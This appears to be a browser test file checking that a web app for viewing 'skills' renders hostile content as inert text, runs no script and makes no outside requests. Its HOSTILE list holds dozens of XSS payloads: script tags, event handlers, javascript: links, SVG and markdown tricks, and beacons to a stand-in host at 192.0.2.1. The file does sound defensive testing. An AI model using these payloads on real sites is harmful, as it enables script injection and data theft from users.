import { afterAll, beforeAll, expect, test } from 'vitest'
import { inBrowser } from './in-browser.ts'
import { startWeb } from './web-world.ts'
import type { WebWorld } from './web-world.ts'

/** What would run a script or tell somebody elsewhere that the page was opened, if it were believed. */
const HOSTILE = [
  '<script>window.__xss=1</script>',
  '<SCRIPT SRC=//192.0.2.1/x.js></SCRIPT>',
  '<img src=x onerror="window.__xss=1">',
  '<img src=http://192.0.2.1/seen.png>',
  '<image href=x onerror=window.__xss=1>',
  '<svg onload=window.__xss=1>',
  '<svg><script>window.__xss=1</script></svg>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__xss=1>#x"></svg>',
  '<svg><foreignObject><iframe onload=window.__xss=1></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '<math href="javascript:window.__xss=1">x</math>',
  '<iframe src="javascript:window.__xss=1"></iframe>',
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '<embed src="http://192.0.2.1/x">',
  '<form action=http://192.0.2.1/><input autofocus onfocus=window.__xss=1></form>',
  '<button formaction="javascript:window.__xss=1">x</button>',
  '<details open ontoggle=window.__xss=1>x</details>',
  '<video src=x onerror=window.__xss=1></video>',
  '<audio src=http://192.0.2.1/a onerror=window.__xss=1>',
  '<body onload=window.__xss=1>',
  '<marquee onstart=window.__xss=1>x</marquee>',
  '<link rel=stylesheet href=http://192.0.2.1/x.css>',
  '<style>@import "http://192.0.2.1/x.css";</style>',
  '<base href=http://192.0.2.1/>',
  '<meta http-equiv=refresh content="0;url=http://192.0.2.1/">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<template><script>window.__xss=1</script></template>',
  '<a href="javascript:window.__xss=1">x</a>',
  '[x](javascript:window.__xss=1)',
  '[x](JaVaScRiPt:window.__xss=1)',
  '[x](java&#x09;script:window.__xss=1)',
  '[x](vbscript:window.__xss=1)',
  '[x](data:text/html,<script>window.__xss=1</script>)',
  '<javascript:window.__xss=1>',
  '![t](http://192.0.2.1/?d=leak)',
  '![t](javascript:window.__xss=1)',
  '![t][r]\n\n[r]: http://192.0.2.1/leak.png "x" onerror=window.__xss=1',
  '[x]: javascript:window.__xss=1\n\n[x]',
  '`` <img src=x onerror=window.__xss=1> ``',
]

const FIELD = JSON.stringify('"><img src=x onerror=window.__xss=1><svg onload=window.__xss=1>')
const SOURCE = {
  'source/skills/pdf/SKILL.md': `---\nname: pdf\ndescription: ${FIELD}\nauthor: ${FIELD}\n---\n\n# <img src=x onerror=window.__xss=1>\n\n${HOSTILE.join('\n\n')}\n`,
  'source/skills/pdf/fill.sh': '#!/bin/sh\necho fill\n',
  'source/skills/pdf/page.html': HOSTILE.join('\n'),
  'source/skills/pdf/picture.svg':
    '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss=1"/>\n',
}
const PAGES = [
  ['/', '"><img'],
  ['/artifacts/skill:pdf', 'window.__xss'],
  ['/artifacts/skill:pdf?tab=files&file=SKILL.md', 'window'],
  ['/artifacts/skill:pdf?tab=files&file=page.html', 'window'],
  ['/artifacts/skill:pdf?tab=files&file=picture.svg', 'onload'],
  ['/artifacts/skill:pdf?tab=versions', 'Imported from'],
  ['/artifacts/skill:pdf?tab=security', 'executable'],
  ['/compare?artifact=skill%3Apdf&version=head&against=parent', 'onerror'],
  ['/history', 'Added'],
] as const

inBrowser('text that would run', () => {
  let web: WebWorld
  beforeAll(async () => {
    web = await startWeb({ files: SOURCE })
    await web.example.bench.run('add ../source --yes')
    web.example.bench.write({
      'home/collections/default/skills/pdf/SKILL.md': `---\nname: pdf\ndescription: ${FIELD}\n---\n\n${HOSTILE.toReversed().join('\n\n')}\n`,
    })
    await web.example.bench.run('snapshot create seen')
  })
  afterAll(() => web.close())

  test('is shown, does not run, and asks nobody elsewhere', async () => {
    const page = await web.open('/')
    const elsewhere: string[] = []
    page.on('request', (request) => {
      const url = request.url()
      if (!url.startsWith(web.example.server.url) && !url.startsWith('data:')) elsewhere.push(url)
    })
    for (const [path, text] of PAGES) {
      await page.goto(web.example.server.url + path)
      await page.getByText(text).filter({ visible: true }).first().waitFor()
      const ran = await page.evaluate(() => '__xss' in globalThis)
      expect({ path, ran }).toEqual({ path, ran: false })
    }
    expect(elsewhere).toEqual([])
  })

  test('keeps no link that would run', async () => {
    const page = await web.open('/artifacts/skill:pdf')
    await page.getByText('window.__xss').filter({ visible: true }).first().waitFor()
    const addresses = await page
      .locator('main [href], main [src], main [formaction]')
      .evaluateAll((found) =>
        found.map((element) => element.getAttribute('href') ?? element.getAttribute('src') ?? ''),
      )
    expect(addresses.filter((address) => !/^(\/|https?:\/\/|#)/.test(address))).toEqual([])
    expect(await page.locator('main img, main iframe, main form, main script').count()).toBe(0)
  })
})
